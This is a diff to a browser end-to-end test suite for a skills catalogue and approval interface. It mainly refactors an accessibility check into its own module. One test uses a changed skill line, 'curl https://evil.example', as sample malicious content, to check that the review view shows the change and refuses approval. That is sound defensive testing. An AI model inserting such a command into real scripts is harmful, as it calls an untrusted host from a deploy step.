@@ -1,10 +1,10 @@
 /** The page as a person uses it, in a real browser, on the built command. */
 import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
-import axe from 'axe-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { createRuntime } from '../../src/runtime-client/index.node.ts';
 import { skillText } from '../e2e/cli-process.ts';
 import { eventually } from '../eventually.ts';
+import { expectAccessible } from './accessible.ts';
 import { closeBrowser, type ServedPage, serveBelow, servePageOf, type Visit, visit } from './served-page.ts';
 
 const deploy = `---
@@ -45,6 +45,7 @@ beforeEach(async () => {
 });
 
 afterEach(async () => {
+  await seen.keep();
   await seen.close();
 });
 
@@ -53,21 +54,6 @@ function expectQuiet(url = served.url): void {
   expect(seen.requests.filter((request) => !request.startsWith(`${new URL(url).origin}/`))).toEqual([]);
   // The browser says itself that a picture could not be loaded.
   expect(seen.faults.filter((fault) => !fault.includes('status of 400'))).toEqual([]);
-}
-
-async function expectAccessible(): Promise<void> {
-  // As an evaluated expression it needs no script element, which the policy of the page would refuse.
-  await seen.page.evaluate(axe.source);
-  const violations = await seen.page.evaluate(async () => {
-    const { axe: checker } = globalThis as unknown as {
-      axe: { run(options: object): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
-    };
-    const { violations: found } = await checker.run({
-      runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'],
-    });
-    return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(' | ')}`);
-  });
-  expect(violations).toEqual([]);
 }
 
 describe('the catalogue', () => {
@@ -81,7 +67,7 @@ describe('the catalogue', () => {
     expect(await broken.textContent()).toMatch(/not served.*no description.*To do: add a line/);
     expect(await page.locator('a.line', { hasText: 'same name' }).count()).toBe(2);
     await seen.picture('catalogue');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     expectQuiet();
   });
 
@@ -128,7 +114,7 @@ describe('a skill', () => {
     await page.getByRole('button', { name: 'Raw' }).click();
     expect(await page.locator('pre.source').textContent()).toBe(deploy);
     await seen.picture('skill');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     expectQuiet();
   });
 
@@ -186,7 +172,7 @@ describe('a skill', () => {
       mcpServers: { skills: { url: served.mcp } },
     });
     await seen.picture('connect');
-    await expectAccessible();
+    await expectAccessible(seen.page);
   });
 });
 
@@ -203,7 +189,7 @@ describe('decisions', () => {
     await page.locator('footer', { hasText: 'this browser may approve' }).waitFor();
     expect(page.url()).not.toContain('sign-in');
     await seen.picture('review');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     await eventually(() => expect(served.link()).not.toBe(link));
     const other = await visit();
     try {
@@ -223,7 +209,7 @@ describe('decisions', () => {
     await page.getByRole('button', { name: 'Approve this set' }).click();
     await page.locator('header .badge', { hasText: 'approved' }).waitFor();
     await seen.picture('approved');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     await page.goto(`${served.url}/#/log`);
     await page.locator('tr', { hasText: 'looked at it' }).waitFor();
     await seen.picture('log');
@@ -253,7 +239,7 @@ describe('decisions', () => {
     expect(await page.locator('.diff .minus').textContent()).toBe('echo deployed');
     expect(await page.locator('.diff .plus').textContent()).toBe('curl https://evil.example');
     await seen.picture('difference');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     const refused = await page.evaluate(async ({ csrf, detail }) => {
       const answer = await fetch('api/approve', {
         method: 'POST',
@@ -312,7 +298,7 @@ describe('origins, programs and trying', () => {
     await page.getByRole('button', { name: 'Read now' }).first().click();
     await page.locator('.runtime pre', { hasText: 'Two apples.' }).waitFor();
     await seen.picture('runtime');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     await runtime.close();
     await page.locator('.empty', { hasText: 'No program is connected' }).waitFor({ timeout: 20_000 });
   });
@@ -326,7 +312,7 @@ describe('origins, programs and trying', () => {
     await page.getByLabel('What the agent looks for').fill('release');
     await page.locator('ol a', { hasText: 'deploy' }).waitFor();
     await seen.picture('try-it');
-    await expectAccessible();
+    await expectAccessible(seen.page);
     expectQuiet();
   });
 });
@@ -372,7 +358,7 @@ describe('everywhere', () => {
       await page.locator(ready).first().waitFor();
       await seen.picture(`${colorScheme}-${width}-${view.split('/')[0]}${view.includes('tab') ? '-changes' : ''}`);
       expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
-      await expectAccessible();
+      await expectAccessible(seen.page);
     }
   });
 });
